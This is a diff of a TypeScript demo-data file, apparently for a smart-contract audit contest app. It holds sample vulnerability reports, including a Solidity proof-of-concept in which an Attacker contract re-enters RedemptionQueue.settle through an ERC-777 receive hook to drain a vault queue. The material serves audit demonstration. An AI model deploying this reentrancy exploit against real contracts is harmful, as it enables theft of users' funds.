@@ -1,80 +1,100 @@
 import type { OptionalTextName } from '../../domain/issues/issue-text'
 import type { InvalidationCode } from '../../domain/judging/invalidation-codes'
-import type { CastMember } from './demo-people'
+import { pastIssues, shortReport } from './demo-past-issues'
+import type { DemoMember } from './demo-people'
 
 /** `day` is relative to the contest's start. */
 export type DemoIssue = Partial<Record<OptionalTextName, string>> & {
   contest: string
-  author: CastMember
+  author: DemoMember
   day: number
   title: string
   description: string
   verdict?: 'valid' | 'invalid'
   reason?: string
   code?: InvalidationCode
-  group?: string
+  group?: string | undefined
 }
 
 const settleTwice = `## Summary
 
-\`RedemptionQueue.settle\` pays an epoch out before it records that the epoch is settled. Anyone holding a queued request can re-enter from the receipt hook of the asset and settle the same epoch again. Each pass releases assets that belong to later epochs.
+\`RedemptionQueue.settle\` pays an epoch out before it records that the epoch is settled. Anyone with a request can re-enter from the receipt hook of the asset and settle the same epoch again. Each pass releases assets that belong to later epochs.
 
 ## Root cause
 
 The flag is written after the external calls:
 
-\`\`\`solidity
-function settle(uint256 epoch) external {
-    Epoch storage e = epochs[epoch];
-    require(block.timestamp >= e.closesAt, "open");
-    require(!e.settled, "settled");
+https://github.com/vault-spring/contracts/blob/8b1a9953c4611296a827abf8c47804d7e6c49c6b/src/RedemptionQueue.sol#L63-L73
 
-    uint256 owed = e.shares.mulDiv(vault.pricePerShare(), 1e18);
-    for (uint256 i; i < e.requests.length; ++i) {
-        Request memory r = e.requests[i];
-        // control passes to r.receiver, and e.settled is still false
-        asset.safeTransfer(r.receiver, owed.mulDiv(r.shares, e.shares));
-    }
-    e.settled = true;
-}
-\`\`\`
-
-On mainnet \`asset\` is ERC-777 compatible, so \`safeTransfer\` calls \`tokensReceived\` on the receiver before the loop goes on.
+\`asset\` is ERC-777 compatible, so \`transfer\` calls \`tokensReceived\` on the receiver before the loop goes on.
 
 ## Impact
 
-- The queue holds the assets of every open epoch: 38,912 of 63,374 at block 24,118,600, which is **61.4% of total funds**.
-- One request for a single share is enough. No role, no price move and no trusted party is involved.
+- The queue holds the assets of every open epoch: 38,912 of 63,374 in the proof, which is **61.4% of total funds**.
+- One request is enough. No role, no price move and no trusted party is involved.
 - Four nested calls empty the queue. Redeemers of later epochs are left with burned shares and nothing to claim.
 
 ## Mitigation
 
 Set \`e.settled = true\` before the loop, or guard \`settle\` with \`nonReentrant\`. The first is enough and costs no gas.`
 
-const settleTwicePoc = `Run against a fork with \`forge test --match-test settleTwice -vv\`:
+const settleTwicePoc = `A test of the project, with its mock of the asset:
 
 \`\`\`solidity
-function test_settleTwice() public {
-    vm.createSelectFork("mainnet", 24_118_600);
-    Attacker a = new Attacker(queue, asset);
-    vault.deposit(1 ether, address(a));
-    a.request(1);
-    vm.warp(queue.closesAt(7));
+import {Test} from "forge-std/Test.sol";
+import {LossTest} from "primacy/LossTest.sol";
+import {EpochVault} from "../src/EpochVault.sol";
+import {RedemptionQueue} from "../src/RedemptionQueue.sol";
+import {HookedAsset} from "./HookedAsset.sol";
 
-    uint256 before = asset.balanceOf(address(queue));
-    a.settle(7); // re-enters three times from tokensReceived
-    assertLt(asset.balanceOf(address(queue)), before * 80 / 100);
+contract Attacker {
+    RedemptionQueue queue;
+    HookedAsset asset;
+    uint256 epoch;
+
+    constructor(EpochVault vault, RedemptionQueue queue_, HookedAsset asset_, uint256 amount) {
+        (queue, asset) = (queue_, asset_);
+        asset.mint(address(this), amount);
+        epoch = queue.request(vault.deposit(amount));
+    }
+
+    function tokensReceived(address, uint256 amount) external {
+        // e.settled is still false
+        if (asset.balanceOf(address(queue)) >= amount) queue.settle(epoch);
+    }
 }
-\`\`\`
 
-\`\`\`text
-[PASS] test_settleTwice() (gas: 412907)
-  queue before  38912.044 wst
-  queue after       0.000 wst
+contract SettleTwice is Test, LossTest {
+    HookedAsset asset = new HookedAsset();
+    EpochVault vault = new EpochVault(asset);
+    RedemptionQueue queue = new RedemptionQueue(vault);
+    address bob = makeAddr("bob");
+
+    function setUp() public {
+        vault.setQueue(address(queue));
+        asset.mint(bob, 53_646);
+        vm.prank(bob);
+        vault.deposit(53_646);
+        new Attacker(vault, queue, asset, 9_728);
+        vm.warp(queue.closesAt(0));
+        vm.prank(bob);
+        queue.request(29_184); // in the next epoch
+    }
+
+    function fundsToken() internal view override returns (address) {
+        return address(asset);
+    }
+
+    function fundsHolders() internal view override returns (address[] memory holders) {
+        holders = new address[](2);
+        (holders[0], holders[1]) = (address(vault), address(queue));
+    }
+
+    function attack() internal override {
+        queue.settle(0); // re-enters three times
+    }
+}
 \`\`\``
-
-const short = (root: string, impact: string) =>
-  `## Root cause\n\n${root}\n\n## Impact\n\n${impact}\n\n## Mitigation\n\nCheck before the transfer, and add the case to the invariant suite.`
 
 export const demoIssues: DemoIssue[] = [
   {
@@ -92,7 +112,7 @@ export const demoIssues: DemoIssue[] = [
     author: 'linus',
     day: 3,
     title: 'Reentrancy in RedemptionQueue.settle drains the queue',
-    description: short(
+    description: shortReport(
       '`settle` transfers to each receiver before it marks the epoch as settled, and the asset calls back.',
       'A receiver settles the same epoch repeatedly and takes more than 20% of total funds.',
     ),
@@ -104,7 +124,7 @@ export const demoIssues: DemoIssue[] = [
     author: 'ada',
     day: 4,
     title: 'First depositor can inflate the share price of an empty vault',
-    description: short(
+    description: shortReport(
       '`convertToShares` rounds down and the vault mints no dead shares.',
       'Later deposits are rounded to zero shares.',
     ),
@@ -118,7 +138,7 @@ export const demoIssues: DemoIssue[] = [
     author: 'ada',
     day: 8,
     title: 'PriceGuard accepts a stale round after the sequencer restarts',
-    description: short(
+    description: shortReport(
       '`latestRoundData` is read without a look at `updatedAt`.',
       'Requests settle at an old price until the feed moves.',
     ),
@@ -129,7 +149,7 @@ export const demoIssues: DemoIssue[] = [
     author: 'mei',
     day: 9,
     title: 'Cancelled requests still count towards the epoch total',
-    description: short(
+    description: shortReport(
       '`cancel` burns the request and leaves `e.shares` as it was.',
       'Everybody else in the epoch is paid less.',
     ),
@@ -139,7 +159,7 @@ export const demoIssues: DemoIssue[] = [
     author: 'mei',
     day: 2,
     title: 'Slashing in one network undelegates from all',
-    description: short(
+    description: shortReport(
       '`_slash` iterates over every delegation of the operator.',
       'One network can remove the security of the others.',
     ),
@@ -150,7 +170,7 @@ export const demoIssues: DemoIssue[] = [
     author: 'ada',
     day: 6,
     title: 'Operators can withdraw during the unbonding period',
-    description: short(
+    description: shortReport(
       '`completeWithdrawal` compares with the wrong timestamp.',
       'Stake leaves before it can be slashed.',
     ),
@@ -160,7 +180,7 @@ export const demoIssues: DemoIssue[] = [
     author: 'linus',
     day: 2,
     title: 'Limit orders at the edge of a word are filled twice',
-    description: short(
+    description: shortReport(
       'The bitmap walk visits the last tick of a word again as the first of the next.',
       'A maker is paid twice from the pool.',
     ),
@@ -172,7 +192,7 @@ export const demoIssues: DemoIssue[] = [
     author: 'ada',
     day: 5,
     title: 'Packed ticks let a maker collect an order twice',
-    description: short(
+    description: shortReport(
       'Tick 255 of a word aliases tick 0 of the next one.',
       'Half of a pool can be taken in one block.',
     ),
@@ -184,7 +204,7 @@ export const demoIssues: DemoIssue[] = [
     author: 'mei',
     day: 9,
     title: 'Fee growth can be read before it is checkpointed',
-    description: short('`collect` trusts a cached growth.', 'Fees of others can be collected.'),
+    description: shortReport('`collect` trusts a cached growth.', 'Fees of others can be collected.'),
     verdict: 'valid',
   },
   {
@@ -192,8 +212,9 @@ export const demoIssues: DemoIssue[] = [
     author: 'ada',
     day: 3,
     title: 'Events omit the position id',
-    description: short('`Redeemed` has no id.', 'Indexers have to guess.'),
+    description: shortReport('`Redeemed` has no id.', 'Indexers have to guess.'),
     verdict: 'invalid',
     code: 'below_critical',
   },
+  ...pastIssues,
 ]
